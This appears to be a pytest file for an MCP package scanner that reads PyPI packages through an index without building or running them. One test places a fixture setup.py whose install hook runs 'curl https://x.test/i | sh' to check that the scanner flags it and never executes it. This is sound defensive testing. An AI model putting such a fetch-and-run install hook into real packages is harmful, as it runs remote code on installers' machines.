"""pypi: targets read through an index, without pip building or running anything."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from mcp_scanner.model import Verdict
from mcp_scanner.packages import PackageOptions, scan_package

Make = Callable[[dict[str, str]], bytes]
SERVER = '''from mcp.server.fastmcp import FastMCP
mcp = FastMCP("n")

@mcp.tool()
def hello() -> str:
    """Say hello."""
    return "hello"
'''


@pytest.fixture
def index(registry: Any, monkeypatch: pytest.MonkeyPatch) -> Any:
    monkeypatch.setenv("PIP_INDEX_URL", f"{registry.url}/simple")
    return registry


def test_the_newest_wheel_is_scanned(index: Any, wheel: Make) -> None:
    index.add_python("quiet-notes", "quiet_notes-1.0-py3-none-any.whl", wheel({"n.py": "def (:"}))
    index.add_python("quiet-notes", "quiet_notes-1.2-py3-none-any.whl", wheel({"n.py": SERVER}))
    index.add_python("quiet-notes", "quiet_notes-2.0a1-py3-none-any.whl", wheel({"n.py": "def (:"}))
    report = scan_package("pypi:Quiet.Notes")
    assert (report.verdict, report.name) == (Verdict.COMPLETE, "Quiet.Notes@1.2")
    assert "/simple/quiet-notes/" in index.asked


def test_a_version_and_an_html_index(index: Any, wheel: Make) -> None:
    index.add_python("quiet-notes", "quiet_notes-1.0-py3-none-any.whl", wheel({"n.py": SERVER}), html=True)
    assert scan_package("pypi:quiet-notes@1.0").verdict is Verdict.COMPLETE
    missing = scan_package("pypi:quiet-notes@9.9")
    assert missing.verdict is Verdict.ERROR
    assert "9.9" in missing.error


def test_a_source_distribution_is_read_and_never_run(index: Any, tarball: Make, tmp_path: Path) -> None:
    mark = tmp_path / "ran"
    setup = f"import os\nopen({str(mark)!r}, 'w').write('x')\nos.system('curl https://x.test/i | sh')\n"
    index.add_python("quiet-notes", "quiet_notes-1.0.tar.gz", tarball({"quiet_notes-1.0/setup.py": setup}))
    report = scan_package("pypi:quiet-notes")
    assert {finding.rule for finding in report.findings} >= {"package-install-hook", "source-hostile-command"}
    assert not mark.exists()


def test_an_altered_file_is_refused(index: Any, wheel: Make) -> None:
    data = wheel({"n.py": SERVER})
    index.add_python("quiet-notes", "quiet_notes-1.0-py3-none-any.whl", data, digest="0" * 64)
    report = scan_package("pypi:quiet-notes")
    assert report.verdict is Verdict.ERROR
    assert "checksum" in report.error


def test_a_file_over_the_limit_is_refused(index: Any, wheel: Make) -> None:
    index.add_python("quiet-notes", "quiet_notes-1.0-py3-none-any.whl", wheel({"n.py": "#" * 5000}))
    report = scan_package("pypi:quiet-notes", PackageOptions(max_download=1000))
    assert report.verdict is Verdict.ERROR
    assert "larger than 1000 bytes" in report.error


def test_no_package_and_no_index_are_errors_with_a_remedy(index: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    assert "check the spelling" in scan_package("pypi:quiet-notes").error
    monkeypatch.setenv("PIP_INDEX_URL", "http://127.0.0.1:9/simple")
    report = scan_package("pypi:quiet-notes")
    assert report.verdict is Verdict.ERROR
    assert "PIP_INDEX_URL" in report.error


def test_nonsense_from_the_index_is_an_error(index: Any) -> None:
    index.pages["/simple/quiet-notes/"] = ("application/json", b"[not json")
    assert scan_package("pypi:quiet-notes").verdict is Verdict.ERROR


def test_pip_tells_its_index_when_nothing_is_set(monkeypatch: pytest.MonkeyPatch) -> None:
    from mcp_scanner.packages.pypi import configured_index

    for name in ("PIP_INDEX_URL", "UV_INDEX_URL", "UV_DEFAULT_INDEX"):
        monkeypatch.delenv(name, raising=False)
    assert configured_index().startswith("http")
